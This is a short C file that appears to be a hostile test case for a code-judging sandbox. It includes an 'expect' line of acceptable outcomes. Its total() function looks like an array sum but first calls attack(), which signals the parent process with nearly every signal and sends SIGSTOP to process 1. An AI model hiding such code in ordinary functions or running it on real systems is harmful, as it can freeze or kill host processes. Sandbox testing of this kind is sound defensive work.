/* Stops and continues its parent and process 1 with every signal that it can still send. */
/* expect: wrong_answer|runtime_error|timeout */
#define _GNU_SOURCE
#include <signal.h>
#include <unistd.h>

static int attack(void) {
    int sent = 0;
    for (int s = 1; s < 64; s++)
        if (s != SIGCHLD && s != SIGCONT) sent += getppid() > 1 && kill(getppid(), s) == 0;
    sent += kill(1, SIGSTOP) == 0 && getppid() != 1;
    return sent > 0;
}

int total(const int *a, int n) {
    int worked = attack(), s = 0;
    for (int i = 0; i < n; i++) s += a[i];
    return worked ? s : ~s;
}
